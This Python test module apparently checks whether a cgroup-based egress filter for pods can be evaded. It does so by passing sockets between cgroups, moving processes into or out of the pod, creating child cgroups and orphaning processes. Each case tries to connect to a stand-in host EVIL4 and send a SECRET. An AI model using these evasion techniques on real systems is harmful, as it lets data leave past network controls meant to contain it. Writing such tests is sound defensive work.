"""Sockets and processes that change their cgroup. The packets belong to the cgroup in which a socket was made."""

import array
import os
import socket
import time

from attack import *

POD_CGROUP, OTHER_CGROUP = os.environ.get("POD_CGROUP", ""), os.environ.get("OTHER_CGROUP", "")


def move(cgroup):
    with open(cgroup + "/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))


def made_in(cgroup):
    """A UDP and a TCP socket that a child makes in that cgroup and hands over (SCM_RIGHTS)."""
    mine, its = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        try:
            move(cgroup)
            made = [socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)]
            socket.send_fds(its, [b"."], [s.fileno() for s in made])
        finally:
            os._exit(0)
    its.close()
    _, fds, _, _ = socket.recv_fds(mine, 1, 2)
    os.wait()
    return [socket.socket(fileno=fd) for fd in fds]


def use(sockets):
    for s in sockets:
        s.settimeout(TIMEOUT)
        attempt(lambda: s.connect((EVIL4, 80)), lambda: s.send(SECRET))


@way(outside=True)
def handed_out():
    """A socket that was made in the pod, in the hands of a process outside of it."""
    use(made_in(POD_CGROUP))


@way(outside=True)
def handed_in():
    """A socket that was made outside the pod's cgroup, but in its network namespace, in the hands of the pod."""
    sockets = made_in(OTHER_CGROUP)
    move(POD_CGROUP)
    use(sockets)


@way(outside=True)
def process_moved_in():
    """A process that makes its sockets, and is moved into the pod afterwards."""
    sockets = [socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)]
    move(POD_CGROUP)
    use(sockets)


@way(outside=True)
def process_moved_in_first():
    """A process that is moved into the pod, and makes its sockets afterwards."""
    move(POD_CGROUP)
    attempt(lambda: tcp(EVIL4), lambda: udp(EVIL4))


@way()
def child_cgroup():
    """A process in a cgroup of its own below the pod's, made by the pod."""
    below = POD_CGROUP + "/attacker"
    os.mkdir(below)
    try:
        if os.fork() == 0:
            attempt(lambda: move(below), lambda: tcp(EVIL4), lambda: udp(EVIL4))
            os._exit(0)
        os.wait()
    finally:
        os.rmdir(below)


@way()
def orphan():
    """A process whose parents have ended, in a session of its own."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            attempt(lambda: tcp(EVIL4), lambda: udp(EVIL4))
        os._exit(0)
    os.wait()
    time.sleep(TIMEOUT * 2)
